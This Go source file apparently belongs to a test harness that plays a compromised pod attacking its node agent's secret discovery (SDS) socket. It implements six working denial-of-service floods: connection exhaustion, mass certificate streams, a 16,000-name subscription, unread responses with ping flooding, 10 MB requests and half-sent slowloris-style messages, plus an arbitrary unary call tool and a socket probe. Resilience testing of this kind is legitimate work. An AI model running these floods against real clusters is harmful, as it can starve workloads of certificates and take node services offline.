package main

// What a pod that went bad does to the agent of its node, over the sockets that it has.

import (
	"encoding/hex"
	"fmt"
	"os"
	"time"
)

const streamSecrets = "/envoy.service.secret.v3.SecretDiscoveryService/StreamSecrets"

// The floods, each on one socket until the pod ends.
var floods = map[string]func(path string, counts *tally){
	"connections": connections,
	"streams":     streams,
	"names":       names,
	"unread":      unread,
	"large":       large,
	"half":        half,
}

// attack begins a flood on each path, and prints its tally as long as that changes.
func attack(kind string, paths []string) {
	flood, known := floods[kind]
	if !known {
		fmt.Fprintf(os.Stderr, "no attack %q\n", kind)
		os.Exit(2)
	}
	counts := &tally{}
	for _, path := range paths {
		go flood(path, counts)
	}
	go func() {
		last := ""
		for ; ; time.Sleep(200 * time.Millisecond) {
			line := fmt.Sprintf("attack %s sent=%d ended=%d lost=%d",
				kind, counts.sent.Load(), counts.ended.Load(), counts.lost.Load())
			if line != last {
				fmt.Println(line)
				last = line
			}
		}
	}()
	wait()
}

// connections opens as many as it can, says nothing on any, and opens another for each that is closed.
func connections(path string, counts *tally) {
	for range 500 {
		go func() {
			for ; ; time.Sleep(20 * time.Millisecond) {
				if c, err := open(path, firstWindow, true, counts); err == nil {
					counts.sent.Add(1)
					c.lock.Lock()
					for !c.gone {
						c.changed.Wait()
					}
					c.lock.Unlock()
				}
			}
		}()
	}
}

// streams asks for the certificate on far more streams than anybody needs, and keeps all that it gets.
func streams(path string, counts *tally) {
	request := subscribe("default")
	for range 8 {
		c, err := open(path, firstWindow, true, counts)
		if err != nil {
			counts.lost.Add(1)
			continue
		}
		for range 200 {
			if id, err := c.stream(streamSecrets); err == nil {
				counts.sent.Add(1)
				c.send(id, message(len(request), request), false)
			}
		}
	}
}

// names asks for sixteen thousand of them again and again.
func names(path string, counts *tally) {
	many := make([]string, 16000)
	for number := range many {
		many[number] = fmt.Sprintf("file-cert:/var/lib/kubelet/pods/%020d", number)
	}
	request := subscribe(many...)
	for ; ; time.Sleep(20 * time.Millisecond) {
		c, err := open(path, firstWindow, true, counts)
		if err != nil {
			continue
		}
		id, err := c.stream(streamSecrets)
		for err == nil && c.send(id, message(len(request), request), false) {
			counts.sent.Add(1)
		}
		c.socket.Close()
	}
}

// unread asks for everything, takes nothing, and goes on pinging until nothing can be sent.
func unread(path string, counts *tally) {
	for range 16 {
		go func() {
			for ; ; time.Sleep(20 * time.Millisecond) {
				c, err := open(path, 0, false, counts)
				if err != nil {
					continue
				}
				for _, name := range []string{"default", "ROOTCA", "default", "ROOTCA"} {
					request := subscribe(name)
					if id, err := c.stream(streamSecrets); err == nil {
						counts.sent.Add(1)
						c.frame(frameData, 0, id, message(len(request), request))
					}
				}
				// Nobody reads the answers, so at some time the agent cannot write any more, nor we.
				for c.frame(framePing, 0, 0, make([]byte, 8)) == nil {
				}
				counts.lost.Add(1)
				c.socket.Close()
			}
		}()
	}
}

// large begins requests of 10 MB and sends them for as long as it may.
func large(path string, counts *tally) {
	const size = 10 << 20
	content := message(size, make([]byte, size))
	for ; ; time.Sleep(20 * time.Millisecond) {
		c, err := open(path, firstWindow, true, counts)
		for err == nil {
			var id uint32
			if id, err = c.stream(streamSecrets); err == nil {
				counts.sent.Add(1)
				c.send(id, content, false)
				c.lock.Lock()
				if c.gone {
					err = os.ErrClosed
				}
				c.lock.Unlock()
			}
		}
		if c != nil {
			c.socket.Close()
		}
	}
}

// half sends all but the last byte of the largest request that is taken, on many streams, and then nothing. One good request on
// each connection keeps it from being idle.
func half(path string, counts *tally) {
	const size = 1 << 20
	content := message(size, make([]byte, size-1))
	good := subscribe("default")
	for range 4 {
		c, err := open(path, firstWindow, true, counts)
		if err != nil {
			counts.lost.Add(1)
			continue
		}
		if id, err := c.stream(streamSecrets); err == nil {
			c.send(id, message(len(good), good), false)
		}
		for range 64 {
			go func() {
				if id, err := c.stream(streamSecrets); err == nil {
					counts.sent.Add(1)
					c.send(id, content, false)
				}
			}()
		}
	}
}

// call makes one unary call, whatever the socket is for, and tells how it ended.
func call(path, method, request string) {
	content, err := hex.DecodeString(request)
	if err != nil {
		fmt.Printf("call failed: %v\n", err)
		return
	}
	counts := &tally{}
	c, err := open(path, firstWindow, true, counts)
	if err != nil {
		fmt.Printf("call cannot connect: %v\n", err)
		return
	}
	id, err := c.stream(method)
	if err == nil {
		c.send(id, message(len(content), content), true)
	}
	for until := time.Now().Add(10 * time.Second); counts.ended.Load() == 0 && time.Now().Before(until); {
		time.Sleep(10 * time.Millisecond)
	}
	fmt.Printf("call of %s on %s ended %d times\n", method, path, counts.ended.Load())
}

// reach tells which of these are there to be connected to.
func reach(paths []string) {
	for _, path := range paths {
		if err := dial(path); err != nil {
			fmt.Printf("cannot reach %s: %v\n", path, err)
		} else {
			fmt.Printf("reached %s\n", path)
		}
	}
	fmt.Printf("tried %d\n", len(paths))
}
